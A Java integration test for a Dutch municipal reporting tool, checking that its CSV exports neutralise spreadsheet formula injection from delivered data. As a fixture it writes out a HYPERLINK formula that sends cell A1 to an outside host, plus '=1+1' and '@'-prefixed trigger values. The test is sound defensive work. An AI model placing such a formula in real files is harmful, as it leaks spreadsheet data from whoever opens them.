package nl.participatiemonitor.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.EnumSet;
import java.util.List;
import java.util.stream.Stream;
import nl.participatiemonitor.ingest.DeliveryImporter;
import nl.participatiemonitor.metrics.IndicatorRunner;
import nl.participatiemonitor.metrics.Period;
import nl.participatiemonitor.support.CliRun;
import nl.participatiemonitor.support.DeliveryFiles;
import nl.participatiemonitor.support.IntegrationTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ApplicationContext;

/**
 * Every CSV the application writes guards text from the deliveries that a spreadsheet would take for a formula
 * (the dossier's keys, the reject list's values, the jaaroverzicht's bestuursorgaan), as the XLSX files do.
 */
@IntegrationTest
class CsvFormulaTest {

    private static final String HYPERLINK = "=HYPERLINK(\"https://example.org/?\"&A1,\"klik\")";

    @Autowired
    ApplicationContext context;

    @Autowired
    DeliveryImporter importer;

    @Autowired
    IndicatorRunner runner;

    @Autowired
    ReportPublisher publisher;

    @TempDir
    Path delivery;

    @TempDir
    Path output;

    @Test
    void theRejectListAndTheDossierGuardFormulas() throws Exception {
        DeliveryFiles.in(delivery).source("gm0014", "2026-Q3").csv("klachten.csv",
                "klacht_id;gemeente_code;ontvangen;onderwerp",
                "\"" + HYPERLINK.replace("\"", "\"\"") + "\";GM0014;2026-07-01;BEJEGENING",
                "K-2;GM0014;2026-07-01;=1+1");
        String id = importer.importFolder(delivery, null, null).delivery().shortId();

        CliRun rejects = CliRun.run(context, "rejects", id);

        assertThat(rejects.out()).contains("klachten.csv;3;onderwerp;\u2019=1+1;").doesNotContain(";=1+1");

        IndicatorRunner.RunSummary run = runner.run(Period.parse("2026-Q3"), List.of("GM0014"));
        publisher.publish(run.runId(), run.scope().label(), output, EnumSet.of(Audience.DOSSIER));
        String dossier = Files.readString(output.resolve("2026-Q3/dossier-GM0014/r1/VERTROUWELIJK-dossier-GM0014-2026-Q3.csv"));
        assertThat(dossier).contains(";\"\u2019=HYPERLINK(").doesNotContain(";\"=HYPERLINK(", ";=HYPERLINK(");
    }

    @Test
    void theJaaroverzichtGuardsTheCodeOfItsBestuursorgaan() throws Exception {
        RegionFixture.write(delivery);
        try (Stream<Path> files = Files.list(delivery)) {
            for (Path file : files.toList()) {
                Files.writeString(file, Files.readString(file).replace("GR-NOORD", "@NOORD"));
            }
        }
        importer.importFolder(delivery, null, null);
        IndicatorRunner.RunSummary run = runner.run(Period.parse("2025"), List.of());

        publisher.publish(run.runId(), run.scope().label(), output, EnumSet.of(Audience.JAAROVERZICHT));

        Path csv;
        try (Stream<Path> all = Files.walk(output)) {
            csv = all.filter(p -> p.getFileName().toString().matches("jaaroverzicht-klachten-.*NOORD-2025\\.csv"))
                    .findFirst().orElseThrow();
        }
        List<String> lines = Files.readAllLines(csv);
        assertThat(lines.get(1)).startsWith("\u2019@NOORD;");
        assertThat(lines).noneMatch(line -> line.startsWith("@"));
    }
}
